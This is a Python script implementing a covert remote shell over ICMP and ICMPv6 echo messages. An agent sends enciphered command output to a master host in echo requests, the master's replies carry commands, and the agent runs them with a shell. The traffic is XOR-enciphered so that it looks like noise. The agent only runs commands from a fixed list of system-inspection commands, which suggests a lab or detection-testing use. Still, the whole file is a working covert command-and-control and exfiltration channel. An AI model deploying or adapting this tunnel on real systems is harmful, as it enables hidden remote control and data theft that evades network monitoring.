"""icmp_shell.py master|master6 | agent|agent6 HOST COUNT: a remote shell over echo messages, as several such tools work.

The agent asks (echo request) with the output of the last command, the master's reply carries the next command; both are
enciphered with a stream from SHA-256, so the bytes are noise.
"""

import hashlib
import os
import socket
import struct
import subprocess
import sys
import time

six = sys.argv[1].endswith("6")
ASK, REPLY = (128, 129) if six else (8, 0)
COMMANDS = ["id", "uname -a", "cat /etc/services | head -c 900", "ls -l /etc | head -c 800", "ip addr", "cat /proc/cpuinfo | head -c 1000", "date"]
family, protocol = (socket.AF_INET6, socket.IPPROTO_ICMPV6) if six else (socket.AF_INET, socket.IPPROTO_ICMP)
s = socket.socket(family, socket.SOCK_RAW, protocol)


def cipher(data, number):
    key = b"".join(hashlib.sha256(struct.pack("!II", number, n)).digest() for n in range(len(data) // 32 + 1))
    return bytes(a ^ b for a, b in zip(data, key))


def message(kind, number, identifier, data):
    packet = struct.pack("!BBHHH", kind, 0, 0, identifier, number & 0xFFFF) + data
    total = sum(struct.unpack(f"!{len(packet + packet[:len(packet) % 2]) // 2}H", packet + b"\0" * (len(packet) % 2))) if len(packet) % 2 == 0 \
        else sum(struct.unpack(f"!{(len(packet) + 1) // 2}H", packet + b"\0"))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return packet[:2] + struct.pack("!H", ~total & 0xFFFF) + packet[4:]  # ICMPv6: the kernel fills its own in


def received(kind):
    while True:
        packet, peer = s.recvfrom(4096)
        body = packet if six else packet[(packet[0] & 15) * 4:]
        if body[0] == kind:
            identifier, number = struct.unpack_from("!HH", body, 4)
            return identifier, number, body[8:], peer


if sys.argv[1].startswith("master"):
    while True:
        identifier, number, data, peer = received(ASK)
        order = COMMANDS[number % len(COMMANDS)].encode() + (os.urandom(380) if six else b"")
        s.sendto(message(REPLY, number, identifier, cipher(order, number + 9000)), peer)
else:
    host, count, output = sys.argv[2], int(sys.argv[3]), b"hello"
    s.settimeout(2)
    for number in range(count):
        s.sendto(message(ASK, number, 0x1D5A, cipher(output, number)), (host, 0))
        try:
            _, _, data, _ = received(REPLY)
        except OSError:
            continue
        order = cipher(data, number + 9000)
        known = [c for c in COMMANDS if order.startswith(c.encode())]
        output = subprocess.run(known[0], shell=True, capture_output=True).stdout[:1000] if known else b"?"
        output = output or b"nothing"
        time.sleep(0.15 + (number % 5) * 0.1)
